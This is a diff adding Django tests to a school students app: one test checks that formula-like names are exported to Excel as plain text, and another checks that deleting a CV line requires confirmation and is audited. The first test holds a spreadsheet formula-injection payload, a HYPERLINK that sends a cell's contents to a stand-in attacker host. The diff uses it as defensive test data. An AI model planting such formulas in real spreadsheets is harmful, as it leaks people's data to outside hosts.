@@ -1,13 +1,14 @@
 """Pages of the students app through the test client: sign-up, dashboard, exports, PDFs, audit of reads."""
 
 import io
+import zipfile
 
 from django.urls import reverse
 from django_scopes import scopes_disabled
 from openpyxl import load_workbook
 
 from anschluss.core.models import AuditEntry
-from anschluss.students.models import Student
+from anschluss.students.models import CvEntry, Student
 
 
 def test_sign_up_with_a_code_creates_the_account_and_signs_in(world, client, school):
@@ -66,6 +67,63 @@ def test_class_overview_as_xlsx(world, client_for, school):
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[1][:2] == ("Schülerin", "Mia")
     assert len(rows) == 2
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&C2,"Klick")'
+
+
+def test_formulas_in_names_come_out_of_the_xlsx_as_text(world, client_for, school):
+    """Names made before the import refused such values (or typed in the admin) still reach Excel as text."""
+    with scopes_disabled():
+        Student.objects.create(
+            municipality=world.main,
+            school=school.own_class.school,
+            school_class=school.own_class,
+            grade=9,
+            first_name="@SUM(1+1)",
+            last_name=HYPERLINK,
+        )
+    url = reverse("students:class_xlsx", kwargs={"municipality": "dortmund", "pk": school.own_class.pk})
+    response = client_for("teacher").get(url)
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "HYPERLINK(" in xml
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == HYPERLINK)
+    last, first = row[0], row[1]
+    assert (last.data_type, first.data_type) == ("s", "s")
+    assert first.value == "@SUM(1+1)"
+    assert last.quotePrefix and first.quotePrefix
+    # Ordinary names are left alone.
+    mia = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "Schülerin")
+    assert mia[0].data_type == "s" and not mia[0].quotePrefix
+
+
+def test_a_cv_line_is_deleted_only_after_the_question(world, client_for, school):
+    client = client_for("student")
+    url = reverse("students:cv_entry_delete", kwargs={"municipality": "dortmund", "pk": school.entry.pk})
+    step = reverse("students:cv_step", kwargs={"municipality": "dortmund", "step": "school"})
+    # The list links to the question; it has no button that deletes at once.
+    content = client.get(step).content.decode()
+    assert f'href="{url}"' in content and f'action="{url}"' not in content
+    response = client.get(url, HTTP_ACCEPT_LANGUAGE="de")
+    assert response.status_code == 200
+    assert (
+        "Diese Zeile löschen?" in response.content.decode()
+        and "Hauptschule Kley" in response.content.decode()
+    )
+    # A POST without the answer (an old form, a stray request) asks again and deletes nothing.
+    assert client.post(url).status_code == 200
+    assert client.post(url, {"confirm": "no"}).status_code == 200
+    with scopes_disabled():
+        assert CvEntry.objects.filter(pk=school.entry.pk).exists()
+    response = client.post(url, {"confirm": "yes"})
+    assert response.status_code == 302 and response["Location"] == step
+    with scopes_disabled():
+        assert not CvEntry.objects.filter(pk=school.entry.pk).exists()
+        assert AuditEntry.objects.filter(
+            action="students.cventry.delete", target_id=str(school.entry.pk)
+        ).exists()
 
 
 def test_cv_pdf_and_code_sheet_are_pdfs(world, client_for, school):
